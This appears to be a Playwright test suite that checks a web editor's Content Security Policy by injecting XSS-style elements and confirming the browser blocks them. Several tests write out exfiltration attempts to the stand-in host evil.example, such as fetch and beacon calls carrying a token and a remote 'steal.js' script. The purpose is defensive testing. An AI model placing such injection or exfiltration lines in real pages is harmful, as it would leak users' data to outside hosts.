import type { Page } from "@playwright/test";
import { expect, test } from "./fixtures/headwater";

const BREACH = /Content.Security.Policy/i;

/** The breaches that `act` brings about in the page, as directives, and nothing else. */
async function breaches(page: Page, act: () => void | Promise<void>): Promise<string[]> {
  await page.evaluate(() => {
    const heard: string[] = [];
    Object.assign(window, { heard });
    document.addEventListener("securitypolicyviolation", (event) => heard.push(event.effectiveDirective));
  });
  await page.evaluate(act);
  await expect
    .poll(() => page.evaluate(() => (window as unknown as { heard: string[] }).heard.length))
    .toBeGreaterThan(0);
  return page.evaluate(() => (window as unknown as { heard: string[] }).heard);
}

test.describe("what an injected element wants to do is blocked", () => {
  test.beforeEach(async ({ workbench, pageProblems }) => {
    pageProblems.allow(BREACH);
    await workbench.open();
  });

  test("an inline script does not run", async ({ page }) => {
    const directives = await breaches(page, () => {
      const script = document.createElement("script");
      script.textContent = "window.injected = true";
      document.body.append(script);
    });
    expect(directives).toContain("script-src-elem");
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });

  test("an event handler in an attribute does not run", async ({ page }) => {
    const directives = await breaches(page, () => {
      const place = document.createElement("div");
      place.innerHTML = '<img src="data:," onerror="window.injected = true">';
      document.body.append(place);
    });
    expect(directives).toContain("script-src-attr");
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });

  test("text is not run as a program", async ({ page }) => {
    const directives = await breaches(page, () => {
      setTimeout("window.injected = true");
    });
    expect(directives).toContain("script-src");
    expect(await page.evaluate(() => "injected" in window)).toBe(false);
  });

  test("a script of another site is not loaded", async ({ page }) => {
    const directives = await breaches(page, () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/steal.js";
      document.body.append(script);
    });
    expect(directives).toContain("script-src-elem");
  });

  test("an inline style does not apply", async ({ page }) => {
    const directives = await breaches(page, () => {
      const style = document.createElement("style");
      style.textContent = "body { outline: 7px solid red }";
      document.head.append(style);
    });
    expect(directives).toContain("style-src-elem");
    expect(await page.evaluate(() => getComputedStyle(document.body).outlineWidth)).not.toBe("7px");
  });

  test("nothing is sent to another host", async ({ page }) => {
    const directives = await breaches(page, async () => {
      await fetch("https://evil.example/?token=1", { mode: "no-cors" }).catch(() => undefined);
      navigator.sendBeacon("https://evil.example/", "token");
    });
    expect(directives).toContain("connect-src");
  });

  test("an image does not carry anything to another host", async ({ page }) => {
    const directives = await breaches(page, () => {
      new Image().src = "https://evil.example/?token=1";
    });
    expect(directives).toContain("img-src");
  });

  test("a frame, a base address and a form that leads away are refused", async ({ page }) => {
    const directives = await breaches(page, () => {
      const place = document.createElement("div");
      place.innerHTML = '<iframe src="https://evil.example/"></iframe><base href="https://evil.example/">';
      document.body.append(place);
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    });
    expect(directives).toContain("frame-src");
    expect(directives).toContain("base-uri");
    expect(new URL(page.url()).hostname).not.toBe("evil.example");
  });
});

test("a worker of the page reaches no other host either", async ({ page, workbench, pageProblems }) => {
  pageProblems.allow(BREACH);
  await workbench.open();
  await expect.poll(() => page.workers().length).toBeGreaterThan(0);
  const directive = await page.workers()[0]?.evaluate(async () => {
    const breach = new Promise<string>((resolve) => {
      self.addEventListener("securitypolicyviolation", (event) =>
        resolve((event as SecurityPolicyViolationEvent).effectiveDirective),
      );
    });
    await fetch("https://evil.example/?token=1", { mode: "no-cors" }).catch(() => undefined);
    return breach;
  });
  expect(directive).toBe("connect-src");
});

test("no page may be framed, and each has a policy without exceptions", async ({ page, site }) => {
  for (const path of ["/", "/help/", "/setup/", "/nowhere"]) {
    const answer = await page.request.get(site.url + path);
    expect(answer.headers()["content-security-policy"]).toContain("frame-ancestors 'none'");
    expect(answer.headers()["x-frame-options"]).toBe("DENY");
    const html = await answer.text();
    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html)?.[1];
    expect(policy, path).toContain("default-src 'none'; script-src 'self' 'sha256-");
    expect(policy).not.toMatch(/unsafe|blob:|\s\*[\s;]/);
    expect(html).not.toMatch(/\sstyle="/);
  }
});

test("everything that a page loads comes from the site itself", async ({ page, workbench, site }) => {
  const hosts = new Set<string>();
  page.on("request", (request) => {
    if (!request.url().startsWith("data:")) hosts.add(new URL(request.url()).origin);
  });
  await workbench.open();
  await expect(workbench.samples.getByText("Valid JSON").first()).toBeVisible();
  expect([...hosts]).toEqual([site.url]);
});

test("the editor has its colours, and shows what is wrong, without a style of its own in the page", async ({
  page,
  workbench,
}) => {
  await workbench.open();
  expect(await page.locator("head style, body style").count()).toBe(0);
  await workbench.template.fill('{"a": {{nothing.there}}}');
  const squiggle = page.locator(".cm-lintRange-error");
  await expect(squiggle).toBeVisible();
  await squiggle.hover();
  await expect(page.locator(".cm-tooltip .cm-diagnostic")).toBeVisible();
  expect(await page.locator(".cm-gutters").evaluate((gutters) => getComputedStyle(gutters).position)).toBe(
    "sticky",
  );
  expect(await page.locator(".cm-content").evaluate((text) => getComputedStyle(text).whiteSpace)).toMatch(
    /break-spaces|pre-wrap/,
  );
});
